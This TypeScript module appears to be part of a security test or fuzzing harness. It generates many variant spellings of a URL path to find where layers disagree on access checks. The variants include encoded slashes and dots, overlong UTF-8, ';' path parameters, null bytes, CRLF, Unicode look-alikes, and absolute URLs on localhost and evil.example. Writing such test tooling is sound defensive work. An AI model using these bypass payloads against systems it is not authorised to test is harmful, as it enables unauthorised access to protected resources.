import { Agent } from "node:http";

const once = new Agent({ keepAlive: false, maxSockets: 16 });
/** A malformed address ends its connection, so such a request needs one of its own. */
export function agentFor(spelling: string): { agent?: Agent } {
  return /^\/[!-~]*$/.test(spelling) ? {} : { agent: once };
}

/** Byte by byte as it goes into the request line; letters beyond ASCII as the UTF-8 they would be sent as. */
function bytes(text: string): string {
  return Buffer.from(text, "utf8").toString("latin1");
}

const percent = (letter: string) => `%${letter.charCodeAt(0).toString(16)}`;
const wide = (letter: string) => String.fromCodePoint(letter.charCodeAt(0) + 0xfee0);

/**
 * Other spellings of an address that may get past the checks of one layer but not of another: by case, slashes, dots,
 * encodings, path parameters and look-alikes. The address has no query.
 */
export function spellings(address: string): string[] {
  const segments = address.split("/").slice(1);
  const last = segments.at(-1) ?? "";
  const base = address.slice(0, -last.length);
  const joined = (by: string) => `/${segments.join(by)}`;
  const each = (change: (segment: string) => string) =>
    segments.map((own, at) => `/${segments.with(at, change(own)).join("/")}`);
  const first = last.charAt(0);
  return [
    ...[address.toUpperCase(), base + last.toUpperCase(), base + first.toUpperCase() + last.slice(1)],
    ...each((segment) => segment.toUpperCase()),
    ...each((segment) => `/${segment}`),
    ...[joined("//"), `//${address}`, `///${address}`],
    ...["/", "//", "///", "/.", "/./", "/..", "/x/..", "/x/../", "/x/%2e%2e", ".", "..", "../"].map(
      (end) => address + end,
    ),
    ...["/./", "/x/../", "/%2e/", "/%2E%2e/", "/x/%2e%2e/", "/.%2e/", "/..;/", "/.;/"].flatMap((by) => [
      joined(by),
      by + address.slice(1),
      base.slice(0, -1) + by + last,
    ]),
    ...["%2f", "%2F", "%5c", "%5C", "\\", "%252f", "%c0%af"].flatMap((by) => [
      joined(by),
      base.slice(0, -1) + by + last,
      address + by,
    ]),
    ...each((segment) => Array.from(segment, percent).join("")),
    ...each((segment) => percent(segment.charAt(0)) + segment.slice(1)),
    ...each((segment) => percent(segment.charAt(0)).toUpperCase() + segment.slice(1)),
    ...each((segment) => `%25${segment.charCodeAt(0).toString(16)}${segment.slice(1)}`),
    ...each((segment) => `%2525${segment.charCodeAt(0).toString(16)}${segment.slice(1)}`),
    ...each((segment) => `%u00${segment.charCodeAt(0).toString(16)}${segment.slice(1)}`),
    ...each((segment) => `%c1%${((segment.charCodeAt(0) & 0x3f) | 0x80).toString(16)}${segment.slice(1)}`),
    ...each((segment) => Array.from(segment, wide).join("")).map(bytes),
    ...each((segment) => encodeURIComponent(wide(segment.charAt(0))) + segment.slice(1)),
    ...[
      last.replaceAll("s", "ſ"),
      last.replaceAll("k", "K"),
      last.replaceAll("i", "ı"),
      `${last}\u200b`,
      `${last}\u0301`,
    ].flatMap((look) => (look === last ? [] : [bytes(base + look), base + encodeURIComponent(look)])),
    ...each((segment) => `${segment};x`),
    ...[
      ";",
      ";x",
      ";x=y",
      ";/",
      "?",
      "?&",
      "??",
      "#",
      "#x",
      "%23",
      "%3f",
      "%3b",
      "&",
      "*",
      "~",
      ":",
      ",",
      "'",
      "$",
    ].map((end) => address + end),
    ...["%00", "%00.png", "%0a", "%0d%0a", "%09", "%20", "+", "%ff", "%", "%zz", "%e0%a4%a"].map(
      (end) => address + end,
    ),
    ...[`/%00${address}`, `/%20${address}`, `/%2f${address}`, `%2f${address.slice(1)}`, `\\${address.slice(1)}`],
    ...[".json", ".data", ".html", ".css", ".png", ".js"].map((end) => address + end),
    ...[`http://localhost${address}`, `https://evil.example${address}`, `//evil.example${address}`, address.slice(1)],
  ];
}
